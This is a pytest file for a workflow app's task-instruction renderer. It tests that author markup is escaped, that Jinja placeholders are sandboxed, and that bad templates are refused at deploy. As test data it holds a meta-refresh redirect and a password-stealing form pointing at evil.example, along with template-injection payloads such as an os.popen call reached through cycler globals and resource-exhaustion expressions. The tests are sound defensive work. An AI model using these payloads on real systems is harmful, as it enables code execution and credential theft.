"""Issue 13, finding 3: task instructions are text. The author's literal text is escaped; only
`{{ }}` placeholders are filled (escaped), from an allow-list evaluated in Jinja's sandbox, with no
calls, arithmetic or loops; templates are checked at deploy with file, element and message."""

from __future__ import annotations

import pytest

from app.services.core.instructions import check_instructions
from app.services.modelling import deployments, model_checks
from app.web.core.instructions import render_instructions
from tests.support import models_dir
from tests.support.flow import Flow
from tests.support.pages import Browser, soup

META = '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
FORM = '<form action="https://evil.example/steal"><input name="password"><button>Sign in again</button></form>'


def html(text, data=None) -> str:
    return str(render_instructions(text, data or {}))


# --------------------------------------------------------------------------- rendering


def test_the_authors_markup_is_text():
    out = html(f"Read this. {META} {FORM}")
    assert "<meta" not in out and "<form" not in out and "<input" not in out
    assert "&lt;meta http-equiv=" in out and "&lt;form action=" in out


def test_placeholders_are_filled_and_escaped():
    data = {"child": {"first_name": "<b>Jo</b>", "last_name": "Doe"}, "names": ["a", "b"], "n": 3, "flag": False}
    assert html("Child: {{ child.first_name }} {{ child['last_name'] }}", data) == "Child: &lt;b&gt;Jo&lt;/b&gt; Doe"
    assert (
        html(
            '{{ names|join(", ") }}; {{ "yes" if flag else "no" }}; {{ "n=" ~ n }}; {{ child.first_name|length }}', data
        )
        == "a, b; no; n=3; 9"
    )
    assert html('{{ missing|default("none given") }}', data) == "none given"


def test_blocks_and_comments_are_text_not_run():
    loops = "{% for i in range(3000) %}{% for j in range(3000) %}x{% endfor %}{% endfor %}"
    assert html(loops) == loops.replace("<", "&lt;")  # shown as written: nothing looped
    assert html("{# note #}{% if true %}yes{% endif %}") == "{# note #}{% if true %}yes{% endif %}"
    assert check_instructions(loops)  # and refused at deploy: it would not do what the author meant


@pytest.mark.parametrize(
    "placeholder",
    [
        '{{ ("a"*50000000)|length }}',
        "{{ range(3000)|length }}",
        "{{ lipsum(100000) }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ x.__class__ }}",
        "{{ x|safe }}",
        "{{ x|attr('__class__') }}",
        "{{ x|replace('a', 'bbbbbbbbbb') }}",
        "{{ x ** 100 }}",
        "{{ [x] * 100000 }}",
        "{{ x[y] }}",
        "{{ }}",
    ],
)
def test_refused_placeholders_show_as_written_and_are_model_problems(placeholder):
    data = {"x": "<a>", "y": "k"}
    assert html(f"A {placeholder} B", data) == "A " + str(__import__("markupsafe").escape(placeholder)) + " B"
    (problem,) = check_instructions(f"A {placeholder} B")
    assert problem.startswith("placeholder {{")


def test_missing_data_shows_the_placeholder_as_written():
    assert html("Child: {{ child.first_name }}") == "Child: {{ child.first_name }}"
    assert check_instructions("Child: {{ child.first_name }}") == []  # fine at deploy: data comes later


def test_limits_on_size():
    assert check_instructions("x" * 20001) and html("<b>" + "x" * 20001).startswith("&lt;b&gt;xxx")
    assert check_instructions("{{ a }}" * 201)
    assert check_instructions("{{" * 10000) == [] and html("{{" * 10000) == "{{" * 10000  # no placeholder at all
    long_value = html("{{ x }}", {"x": "<" * 30000})
    assert len(long_value) < 20010 and long_value.endswith("…") and "<" not in long_value


# --------------------------------------------------------------------------- a published model


def _front_door_with_instructions(text: str) -> dict[str, bytes]:
    files = deployments.read_model_dir(models_dir())
    source = files["processes/front_door.bpmn"].decode()
    start = source.index("<spiffworkflow:instructionsForEndUser>Record the contact for this child")
    end = source.index("</spiffworkflow:instructionsForEndUser>", start)
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    files["processes/front_door.bpmn"] = (
        source[:start] + "<spiffworkflow:instructionsForEndUser>" + escaped + source[end:]
    ).encode()
    return files


def test_a_published_instruction_with_markup_shows_as_text_on_the_task_page(client, ctx):
    files = _front_door_with_instructions(f"Record the contact for {{{{ child.first_name }}}}. {META} {FORM}")
    deployment, created = deployments.deploy(files, actor_name="tests")
    assert created and deployment.version == 2
    flow = Flow(client)
    task = flow.task("masho", "record_contact")
    response = Browser(ctx, "masho").get(f"/tasks/{task['id']}")
    assert response.status_code == 200
    page = soup(response)
    inset = page.select_one(".govuk-inset-text")
    assert inset is not None and "Record the contact for Jamie." in inset.get_text()
    assert inset.find("meta") is None and inset.find("form") is None and inset.find("input") is None
    assert page.find("meta", attrs={"http-equiv": "refresh"}) is None
    assert 'http-equiv="refresh" content="0;url=https://evil.example/"' in inset.get_text()


def test_a_template_over_the_limits_is_refused_at_deploy_with_file_and_element(ctx):
    files = _front_door_with_instructions('Name: {{ ("a"*50000000)|length }}')
    found = [p for p in model_checks.problems(files) if p.severity == "error"]
    (problem,) = found
    assert problem.file == "processes/front_door.bpmn" and problem.element_id == "record_contact"
    assert problem.element_name == "Record contact" and problem.line and problem.rule == "instructions"
    assert problem.message.startswith("instructions: placeholder {{") and "arithmetic" in problem.message


def test_a_template_refused_through_the_api_validate_and_deploy(client, ctx):
    from app.services.people import users
    from tests.support import PASSWORD, Api

    users.create_user("sm1", PASSWORD, ["service_manager"])
    api = Api(client)
    files = _front_door_with_instructions(
        "{% for i in range(3000) %}{% for j in range(3000) %}{{ i }}{% endfor %}{% endfor %}"
    )
    body = {"processes/front_door.bpmn": files["processes/front_door.bpmn"].decode()}
    response = api.post("sm1", "/api/v1/deployments/validate", body)
    assert response.status_code == 200
    (problem,) = [p for p in response.json if p["severity"] == "error"]
    assert problem["element_id"] == "record_contact" and "blocks are not run" in problem["message"]
    response = api.post("sm1", "/api/v1/deployments", body)
    assert response.status_code == 422
    errors = [p for p in response.json["details"]["problems"] if p["severity"] == "error"]
    assert [p["element_id"] for p in errors] == ["record_contact"]


def test_the_placeholders_of_a_whole_model_set_are_bounded(ctx, monkeypatch):
    from app.engine import instructions

    monkeypatch.setattr(instructions, "MAX_PLACEHOLDERS_PER_SET", 10)  # the repository's models have more
    model_checks._cache.clear()
    try:
        found = [p for p in model_checks.problems(deployments.read_model_dir(models_dir())) if p.severity == "error"]
    finally:
        model_checks._cache.clear()
    assert found and all(p.rule == "instructions" and "more than 10 {{ }} placeholders" in p.message for p in found)
